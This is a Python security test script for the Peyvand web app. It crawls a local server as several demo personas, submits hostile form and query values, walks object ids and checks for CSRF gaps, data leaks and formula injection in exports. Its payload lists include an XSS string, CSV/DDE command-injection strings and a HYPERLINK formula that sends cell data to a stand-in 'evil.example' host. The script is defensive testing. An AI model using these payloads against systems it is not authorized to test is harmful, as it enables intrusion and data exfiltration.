"""Hostile pass against a running Peyvand server, as every persona (reads, writes, hostile query strings).

Serve the project under production settings (DEBUG=false, collectstatic done, demo data loaded), then:

    python scripts/hostile_pass.py --base http://127.0.0.1:8104 [--pages 250] [--out /tmp/hostile]

The server must trust the script's X-Forwarded-Proto / X-Forwarded-For (PEYVAND_TRUSTED_PROXIES=127.0.0.1):
the script speaks plain HTTP to gunicorn as the TLS proxy would. It counts requests, 5xx answers and leaks
per persona and class, writes every 5xx and leak to OUT/findings.jsonl and prints a table; exit status 1
when any 5xx or leak was seen. It writes to the database (hostile form values): use a throw-away data dir.
"""

from __future__ import annotations

import argparse
import collections
import csv
import io
import json
import re
import sys
import time
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import parse_qsl, urlencode, urljoin, urlparse

import requests

PERSONAS = ["anonymous", "manager", "officer", "unit1", "unit2", "buyer", "investor"]
PASSWORD = "peyvand-demo"  # noqa: S105 - the demo accounts' published password
SKIP_PATHS = ("/accounts/logout/", "/admin/", "/static/", "/i18n/", "/api/docs", "/api/schema", "/favicon")
POST_SKIP = ("/accounts/logout/", "/i18n/setlang/", "/accounts/password/", "/accounts/login/", "/api/tokens/")

LONG = "ب" * 60_000
HOSTILE_TEXT = [
    '<script>alert("x")</script><img src=x onerror=alert(1)>"\'',
    LONG,
    "كيفية توليد ي ك\u200cتست\u200c\u200c\u200d",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    " ".join(["واژه"] * 5000),
    "",
]
HOSTILE_NUMBERS = ["۱۲۳", "١٢٣", "123456789012345678901234567890", "NaN", "-5", "1e400", "inf", "0", "۱۲٫۵"]
HOSTILE_DATES = [
    "1405/9/15",
    "۱۴۰۵-۰۹-۱۵",
    "15/09/1405",
    "9999/1/1",
    "1405/13/1",
    "1405/12/30",
    "0/0/0",
    "1405-02-31",
    "2026-12-06",
    "۱۴۰۵/۰۹/۱۵",
    "1405/09",
    "abc",
]
HOSTILE_QUERY_VALUES = [
    "99999999999999999999999999",
    "-1",
    "9999/99/99",
    "0000-00-00",
    " ".join(["سلام"] * 5000),
    "a" * 60_000,
    "'\"<>%00",
    "NaN",
    "1405/13/40",
]
DATE_NAMES = (
    "date",
    "deadline",
    "period",
    "month",
    "since",
    "until",
    "from",
    "to",
    "year",
    "start",
    "end",
    "due",
)


class Page(HTMLParser):
    """Links, htmx URLs and forms of one HTML page."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.links: list[str] = []
        self.forms: list[dict] = []
        self._form: dict | None = None
        self._select: dict | None = None
        self._textarea: dict | None = None

    def handle_starttag(self, tag: str, attrs_list: list) -> None:
        attrs = {k: (v or "") for k, v in attrs_list}
        for attribute in ("href", "hx-get", "data-url", "src"):
            if attrs.get(attribute) and (attribute != "src" or tag in ("iframe",)):
                self.links.append(attrs[attribute])
        if tag == "form":
            self._form = {
                "action": attrs.get("action", ""),
                "method": attrs.get("method", "get").lower(),
                "fields": [],
                "enctype": attrs.get("enctype", ""),
            }
            if attrs.get("hx-post"):
                self._form["action"], self._form["method"] = attrs["hx-post"], "post"
            self.forms.append(self._form)
        form = self._form
        if form is None:
            return
        if tag == "input":
            form["fields"].append(
                {
                    "tag": "input",
                    "type": attrs.get("type", "text").lower(),
                    "name": attrs.get("name", ""),
                    "value": attrs.get("value", ""),
                    "checked": "checked" in attrs,
                }
            )
        elif tag == "select":
            self._select = {"tag": "select", "name": attrs.get("name", ""), "options": [], "value": None}
            form["fields"].append(self._select)
        elif tag == "option" and self._select is not None:
            self._select["options"].append(attrs.get("value", ""))
            if "selected" in attrs:
                self._select["value"] = attrs.get("value", "")
        elif tag == "textarea":
            self._textarea = {"tag": "textarea", "name": attrs.get("name", ""), "value": ""}
            form["fields"].append(self._textarea)

    def handle_data(self, data: str) -> None:
        if self._textarea is not None:
            self._textarea["value"] += data

    def handle_endtag(self, tag: str) -> None:
        if tag == "form":
            self._form = None
        elif tag == "select":
            self._select = None
        elif tag == "textarea":
            self._textarea = None


class Attack:
    def __init__(self, base: str, out: Path, max_pages: int) -> None:
        self.base = base.rstrip("/")
        self.host = urlparse(self.base).netloc
        self.out = out
        self.max_pages = max_pages
        self.counts: dict = collections.defaultdict(lambda: collections.Counter())
        self.findings = (out / "findings.jsonl").open("w", encoding="utf-8")
        self.sessions: dict[str, requests.Session] = {}
        self.visited: dict[str, dict[str, int]] = collections.defaultdict(dict)
        self.forms: dict[str, list[tuple[str, dict]]] = collections.defaultdict(list)
        self.bodies: dict[str, dict[str, str]] = collections.defaultdict(dict)
        self.secrets: dict[str, list[tuple[str, str]]] = {}

    # --- plumbing ---------------------------------------------------------------------------------------
    def session(self, persona: str) -> requests.Session:
        if persona in self.sessions:
            return self.sessions[persona]
        s = requests.Session()
        number = PERSONAS.index(persona) + 10
        s.headers.update(
            {
                "X-Forwarded-Proto": "https",
                "X-Forwarded-For": f"10.9.0.{number}",
                "User-Agent": "peyvand-hostile-pass",
                "Accept-Language": "fa",
            }
        )
        self.sessions[persona] = s
        if persona != "anonymous":
            page = self.send(persona, "login", "GET", "/accounts/login/")
            token = self.csrf(page.text)
            r = self.send(
                persona,
                "login",
                "POST",
                "/accounts/login/",
                data={"csrfmiddlewaretoken": token, "username": persona, "password": PASSWORD},
                referer="/accounts/login/",
            )
            if "sessionid" not in {c.name for c in s.cookies}:
                raise SystemExit(f"login failed for {persona}: {r.status_code}")
        return s

    def send(
        self,
        persona: str,
        klass: str,
        method: str,
        path: str,
        *,
        data=None,
        files=None,
        headers=None,
        referer: str | None = None,
        params=None,
    ) -> requests.Response:
        s = self.sessions[persona] if persona in self.sessions else self.session(persona)
        url = path if path.startswith("http") else self.base + path
        h = dict(headers or {})
        if method != "GET":
            h.setdefault("Origin", f"https://{self.host}")
            h.setdefault("Referer", f"https://{self.host}{referer or path}")
        started = time.monotonic()
        try:
            r = s.request(
                method,
                url,
                data=data,
                files=files,
                headers=h,
                params=params,
                allow_redirects=False,
                timeout=120,
            )
        except requests.RequestException as error:
            self.counts[persona][(klass, "req")] += 1
            self.counts[persona][(klass, "5xx")] += 1
            self.finding(persona, klass, "error", method, path, repr(error))
            raise
        # Cookies are Secure (production): the proxy speaks HTTPS to the browser, we speak HTTP to gunicorn.
        for cookie in s.cookies:
            cookie.secure = False
        self.counts[persona][(klass, "req")] += 1
        if r.status_code >= 500:
            self.counts[persona][(klass, "5xx")] += 1
            self.finding(
                persona,
                klass,
                "5xx",
                method,
                path,
                f"{r.status_code} {time.monotonic() - started:.1f}s",
                data=data,
                params=params,
            )
        return r

    def finding(
        self, persona: str, klass: str, kind: str, method: str, path: str, detail: str, **extra
    ) -> None:
        if kind == "leak":
            self.counts[persona][(klass, "leak")] += 1
        record: dict[str, object] = {
            "persona": persona,
            "class": klass,
            "kind": kind,
            "method": method,
            "path": path[:300],
            "detail": detail[:500],
        }
        for key, value in extra.items():
            if value:
                record[key] = (
                    {k: str(v)[:80] for k, v in dict(value).items()}
                    if not isinstance(value, str)
                    else value[:200]
                )
        self.findings.write(json.dumps(record, ensure_ascii=False) + "\n")
        self.findings.flush()

    @staticmethod
    def csrf(html: str) -> str:
        m = re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', html)
        return m.group(1) if m else ""

    def local(self, href: str, current: str) -> str | None:
        if not href or href.startswith(("#", "mailto:", "tel:", "javascript:", "data:")):
            return None
        url = urlparse(urljoin(f"https://{self.host}{current}", href))
        if url.netloc and url.netloc != self.host:
            return None
        path = url.path + (f"?{url.query}" if url.query else "")
        if path.startswith(SKIP_PATHS):
            return None
        return path

    def check_secrets(self, persona: str, klass: str, path: str, text: str) -> None:
        for label, secret in self.secrets.get(persona, []):
            if secret and secret in text:
                self.finding(persona, klass, "leak", "GET", path, label)

    # --- 1. reads -----------------------------------------------------------------------------------------
    def crawl(self, persona: str, klass: str = "crawl") -> None:
        queue = collections.deque(["/"])
        seen: set[str] = set()
        per_shape: collections.Counter = collections.Counter()
        while queue and len(seen) < self.max_pages:
            path = queue.popleft()
            if path in seen:
                continue
            shape = re.sub(r"\d+", "N", path.split("?")[0]) + (
                "?" + "&".join(sorted(k for k, _ in parse_qsl(urlparse(path).query))) if "?" in path else ""
            )
            if per_shape[shape] >= 3:
                continue
            per_shape[shape] += 1
            seen.add(path)
            r = self.send(persona, klass, "GET", path)
            self.visited[persona][path] = r.status_code
            ctype = r.headers.get("Content-Type", "")
            text = r.text if ("text" in ctype or "json" in ctype or "csv" in ctype) else ""
            if text:
                self.check_secrets(persona, klass, path, text)
                self.bodies[persona][path] = text if len(text) < 400_000 else text[:400_000]
            if "html" not in ctype:
                continue
            page = Page()
            page.feed(text)
            for href in page.links:
                target = self.local(href, path.split("?")[0])
                if target and target not in seen:
                    queue.append(target)
            for form in page.forms:
                self.forms[persona].append((path, form))

    def exports(self, persona: str, klass: str = "export") -> None:
        """Every list page seen (a page with an export link) as csv and xlsx."""
        lists = sorted(
            {p.split("?")[0] for p in self.visited[persona] if "export=" in p}
            | {p.split("?")[0] for p, b in self.bodies[persona].items() if "export=csv" in b}
        )
        for path in lists:
            for fmt in ("csv", "xlsx"):
                r = self.send(persona, klass, "GET", f"{path}?export={fmt}")
                if fmt == "csv" and r.status_code == 200:
                    self.check_secrets(persona, klass, path + "?export=csv", r.text)
                    self.check_formulas(persona, klass, path, r.text)
                if fmt == "xlsx" and r.status_code == 200 and r.content[:2] == b"PK":
                    self.check_xlsx(persona, klass, path, r.content)

    def check_formulas(self, persona: str, klass: str, path: str, text: str) -> None:
        for row in csv.reader(io.StringIO(text)):
            for cell in row:
                if cell[:1] in ("=", "+", "@", "\t", "\r") or (
                    cell[:1] == "-" and not re.fullmatch(r"-[\d.,٫]+", cell)
                ):
                    self.finding(
                        persona, klass, "leak", "GET", path + "?export=csv", f"formula cell: {cell[:60]}"
                    )
                    return

    def check_xlsx(self, persona: str, klass: str, path: str, content: bytes) -> None:
        import zipfile

        with zipfile.ZipFile(io.BytesIO(content)) as z:
            for name in z.namelist():
                if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                    xml = z.read(name).decode("utf-8", "replace")
                    if "<f>" in xml:
                        self.finding(persona, klass, "leak", "GET", path + "?export=xlsx", "formula in xlsx")
                        return
                    for cell in re.findall(r"<t[^>]*>([^<]*)</t>", xml):
                        if cell[:1] in ("=", "+", "@"):
                            self.finding(
                                persona,
                                klass,
                                "leak",
                                "GET",
                                path + "?export=xlsx",
                                f"formula-like xlsx cell {cell[:60]}",
                            )
                            return

    def id_walk(self, persona: str, patterns: list[str], ids: list[int], klass: str = "ids") -> dict:
        """Every detail/edit/export/fragment URL with each id; returns {pattern: {id: status}}."""
        result: dict = {}
        for pattern in patterns:
            result[pattern] = {}
            for pk in ids:
                path = "/" + pattern.replace("<int:pk>", str(pk)).replace("<int:unit_pk>", str(pk))
                r = self.send(persona, klass, "GET", path)
                result[pattern][pk] = r.status_code
                if (
                    r.status_code == 200 and "text" in r.headers.get("Content-Type", "")
                ) or "json" in r.headers.get("Content-Type", ""):
                    self.check_secrets(persona, klass, path, r.text)
        return result

    # --- 2. writes --------------------------------------------------------------------------------------------
    def fill(self, form: dict, variant: int, token: str) -> dict:  # noqa: C901
        data: dict[str, list[str] | str] = {}
        for field in form["fields"]:
            name = field["name"]
            if not name:
                continue
            if name == "csrfmiddlewaretoken":
                data[name] = token
                continue
            lowered = name.lower()
            if field["tag"] == "select":
                options = [o for o in field["options"] if o]
                if variant % 3 == 2:
                    data[name] = "999999"
                elif options:
                    data[name] = options[(variant * 7) % len(options)]
                continue
            kind = field.get("type", "text")
            if kind in ("submit", "button", "file", "image", "reset"):
                if kind == "submit" and name:
                    data[name] = field["value"]
                continue
            if kind == "hidden":
                data[name] = field["value"] if variant % 4 != 3 else "35"
                continue
            if kind in ("checkbox", "radio"):
                data[name] = field["value"] or "on"
                continue
            if kind == "number" or any(
                k in lowered
                for k in (
                    "value",
                    "amount",
                    "quantity",
                    "employees",
                    "jobs",
                    "share",
                    "capacity",
                    "usd",
                    "rial",
                    "area",
                    "budget",
                )
            ):
                data[name] = HOSTILE_NUMBERS[variant % len(HOSTILE_NUMBERS)]
                continue
            if any(k in lowered for k in DATE_NAMES):
                data[name] = HOSTILE_DATES[variant % len(HOSTILE_DATES)]
                continue
            if kind == "email":
                data[name] = ["a@b.ir", "<x>@evil", "x" * 300 + "@b.ir"][variant % 3]
                continue
            data[name] = HOSTILE_TEXT[variant % len(HOSTILE_TEXT)]
        return data

    def writes(self, persona: str, variants: int, klass: str = "write") -> None:
        done: collections.Counter = collections.Counter()
        for page_path, form in list(self.forms[persona]):
            if form["method"] != "post":
                continue
            action = self.local(form["action"] or page_path, page_path.split("?")[0]) or page_path
            shape = re.sub(r"\d+", "N", action.split("?")[0])
            if action.startswith(POST_SKIP) or done[shape] >= 1:
                continue
            done[shape] += 1
            for variant in range(variants):
                fresh = self.send(persona, klass, "GET", page_path)
                token = self.csrf(fresh.text) or self.sessions[persona].cookies.get("csrftoken") or ""
                data = self.fill(form, variant, token)
                self.send(persona, klass, "POST", action, data=data, referer=page_path)
            # CSRF missing and GET on the POST URL
            data = self.fill(form, 0, "")
            data.pop("csrfmiddlewaretoken", None)
            r = self.send(persona, "csrf", "POST", action, data=data, referer=page_path)
            if r.status_code not in (403,):
                self.finding(
                    persona, "csrf", "leak", "POST", action, f"POST without CSRF answered {r.status_code}"
                )
            self.send(persona, "get-on-post", "GET", action)

    # --- 3. hostile query strings -----------------------------------------------------------------------------
    def queries(self, persona: str, klass: str = "query") -> None:
        lists: dict[str, set[str]] = collections.defaultdict(set)
        for page_path, form in self.forms[persona]:
            if form["method"] == "get":
                action = self.local(form["action"] or page_path, page_path.split("?")[0]) or page_path
                lists[action.split("?")[0]] |= {f["name"] for f in form["fields"] if f["name"]}
        for seen, status in self.visited[persona].items():
            if status == 200 and "?" in seen:
                lists[seen.split("?")[0]] |= {k for k, _ in parse_qsl(urlparse(seen).query)}
        for path, names in sorted(lists.items()):
            names |= {
                "q",
                "page",
                "sort",
                "county",
                "estate",
                "unit",
                "certification",
                "period",
                "from",
                "to",
                "year",
                "per_page",
            }
            for value in HOSTILE_QUERY_VALUES:
                for name in sorted(names):
                    self.send(persona, klass, "GET", path, params={name: value})
            self.send(
                persona,
                klass,
                "GET",
                path
                + "?"
                + urlencode(
                    [
                        ("county", "1"),
                        ("county", "x"),
                        ("page", "2"),
                        ("page", "-9"),
                        ("sort", "password"),
                        ("sort", "-__class__"),
                    ]
                ),
            )

    def table(self) -> str:
        classes = sorted({k for c in self.counts.values() for (k, _) in c})
        lines = ["persona    " + "".join(f"{k:>22}" for k in classes)]
        total: collections.Counter[str] = collections.Counter()
        for persona in PERSONAS:
            c = self.counts.get(persona, collections.Counter())
            cells = []
            for k in classes:
                cells.append(f"{c[(k, 'req')]}/{c[(k, '5xx')]}/{c[(k, 'leak')]}".rjust(22))
                for m in ("req", "5xx", "leak"):
                    total[m] += c[(k, m)]
            lines.append(f"{persona:<11}" + "".join(cells))
        lines.append(
            f"(requests/5xx/leaks)  total requests {total['req']}, 5xx {total['5xx']}, leaks {total['leak']}"
        )
        return "\n".join(lines)


def id_patterns(urls_file: str) -> list[str]:
    """URL patterns with an integer id, from lines ``pattern name view`` (a dump of the URLconf)."""
    patterns = []
    if urls_file:
        for line in Path(urls_file).read_text(encoding="utf-8").splitlines():
            pattern = line.split(" ")[0]
            if "<int:pk>" in pattern or "<int:unit_pk>" in pattern:
                patterns.append(
                    pattern.replace("^", "").replace("(?P<pk>[0-9]+)", "<int:pk>").replace("$", "")
                )
    return patterns


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--base", default="http://127.0.0.1:8104")
    parser.add_argument("--pages", type=int, default=250)
    parser.add_argument("--variants", type=int, default=9)
    parser.add_argument("--ids", default="1,2,3,5,20,35,56,62,100,999999")
    parser.add_argument(
        "--urls", default="", help="file of URL patterns (manage.py-style, one a line) for the id walk"
    )
    parser.add_argument(
        "--secrets", default="", help="JSON {persona: [[label, text], ...]} that must never reach persona"
    )
    parser.add_argument("--phases", default="crawl,ids,export,query,write,recrawl")
    parser.add_argument("--personas", default=",".join(PERSONAS))
    parser.add_argument("--out", default="var/hostile")
    args = parser.parse_args()
    out = Path(args.out)
    out.mkdir(parents=True, exist_ok=True)
    attack = Attack(args.base, out, args.pages)
    if args.secrets:
        attack.secrets = json.loads(Path(args.secrets).read_text(encoding="utf-8"))
    personas = args.personas.split(",")
    phases = args.phases.split(",")
    patterns = id_patterns(args.urls)
    ids = [int(i) for i in args.ids.split(",")]
    walks = {}
    for persona in personas:
        started = time.monotonic()
        if "crawl" in phases:
            attack.crawl(persona)
        if "ids" in phases and patterns:
            walks[persona] = attack.id_walk(persona, patterns, ids)
        if "export" in phases:
            attack.exports(persona)
        if "query" in phases:
            attack.queries(persona)
        if "write" in phases:
            attack.writes(persona, args.variants)
        print(
            f"{persona}: {sum(v for (k, m), v in attack.counts[persona].items() if m == 'req')} requests "
            f"in {time.monotonic() - started:.0f}s",
            flush=True,
        )
    if "recrawl" in phases:
        for persona in personas:
            attack.visited[persona].clear()
            attack.crawl(persona, "recrawl")
            attack.exports(persona, "recrawl-export")
    (out / "id_walk.json").write_text(json.dumps(walks, indent=1), encoding="utf-8")
    report = attack.table()
    (out / "table.txt").write_text(report, encoding="utf-8")
    print(report)
    return 1 if "5xx 0, leaks 0" not in report else 0


if __name__ == "__main__":
    sys.exit(main())
